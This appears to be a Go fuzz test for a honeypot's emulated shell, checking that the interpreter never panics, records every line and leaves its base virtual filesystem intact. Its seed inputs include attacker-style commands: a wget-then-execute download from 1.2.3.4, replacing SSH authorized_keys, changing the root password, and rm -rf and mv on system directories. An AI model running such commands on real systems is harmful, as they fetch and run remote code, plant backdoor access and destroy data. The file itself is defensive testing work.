package shell

import (
	"fmt"
	"path"
	"strings"
	"testing"

	"honeynet/internal/vfs"
)

// baseTree renders every node of a fresh vfs.New(): a command that writes
// through to the shared base tree, or into a Content slice it shares,
// changes it.
func baseTree() string {
	fs := vfs.New()
	var b strings.Builder
	var walk func(p string, n *vfs.Node)
	walk = func(p string, n *vfs.Node) {
		fmt.Fprintf(&b, "%s %v %o %d %d %s %q\n", p, n.Dir, n.Mode, n.Size, n.ModTime.UnixNano(), n.Hash, n.Content)
		if !n.Dir {
			return
		}
		kids, _ := fs.List(p)
		for _, c := range kids {
			walk(path.Join(p, c.Name), c)
		}
	}
	root, _ := fs.Stat("/")
	walk("/", root)
	return b.String()
}

// FuzzShellRun drives the full interpreter with fuzzer-generated input.
// The honeypot's contract: never panic, always record the line, and
// never change the base filesystem every session starts from.
func FuzzShellRun(f *testing.F) {
	seeds := []string{
		`echo -e "\x6F\x6B"`,
		`cd /tmp; wget http://1.2.3.4/x; chmod 777 x; sh x; rm -rf x`,
		`cd ~ && rm -rf .ssh && mkdir .ssh && echo "key">>.ssh/authorized_keys`,
		`cat /proc/cpuinfo | grep name | wc -l`,
		`/bin/busybox ABCDE`,
		`echo "root:pass"|chpasswd|bash`,
		`ls -lh $(which ls)`,
		"a && b || c; d | e",
		"printf '\\x7f\\x45\\x4c\\x46' > /tmp/e; file /tmp/e",
		"$((((", "`\\", ">>>", "2>&1|",
		"chmod 700 / /etc /bin/busybox; mv /usr/bin /tmp; rm -rf /etc; mkdir -p /etc/passwd/x",
		"echo x >> /etc/hosts; cp /etc/passwd /tmp; mv /tmp /tmp/y; mv / /var",
	}
	for _, tc := range bashRows {
		seeds = append(seeds, tc.line)
	}
	for _, s := range seeds {
		f.Add(s)
	}
	pristine := baseTree()
	f.Fuzz(func(t *testing.T, line string) {
		sh := New("svr04", func(string) ([]byte, error) { return []byte("x"), nil })
		sh.Run(line)
		if strings.TrimSpace(line) != "" && len(sh.Commands()) != 1 {
			t.Fatalf("input %q recorded %d commands", line, len(sh.Commands()))
		}
		if baseTree() != pristine {
			t.Fatalf("input %q changed the shared base filesystem", line)
		}
	})
}

// FuzzParse covers the parser in isolation: it never panics, never
// emits an empty simple command, and consumes every operator and
// redirect.
func FuzzParse(f *testing.F) {
	f.Add(`echo "a b" 'c' \d>>out`)
	f.Add("a;b&&c||d|e&f\ng")
	f.Add("echo $(echo a; echo `id`) ${HOME}$? 1>>f &>>g 2>&1 <in")
	f.Fuzz(func(t *testing.T, text string) {
		if msg := checkParse(parse(text)); msg != "" {
			t.Fatalf("%q: %s", text, msg)
		}
		decodeEchoEscapes(text)
	})
}

// checkParse describes the first way a parsed list breaks the parser's
// promises, or returns "".
func checkParse(list []pipeline) string {
	var words []word
	for _, pl := range list {
		if len(pl.cmds) == 0 || pl.next == opPipe {
			return fmt.Sprintf("pipeline %+v", pl)
		}
		for _, c := range pl.cmds {
			if len(c.words) == 0 && c.stdout == nil && c.stderr == nil {
				return "empty simple command"
			}
			words = append(words, c.words...)
			for _, r := range []*redirect{c.stdout, c.stderr} {
				if r != nil {
					words = append(words, r.target)
				}
			}
		}
	}
	for _, w := range words {
		if len(w) == 0 {
			return "empty word"
		}
		for _, pt := range w {
			if pt.kind == partLit && !pt.quoted && strings.ContainsAny(pt.text, " \t\n;&|<>") {
				return fmt.Sprintf("unconsumed operator in %q", pt.text)
			}
			if msg := checkParse(pt.body); msg != "" {
				return msg
			}
		}
	}
	return ""
}
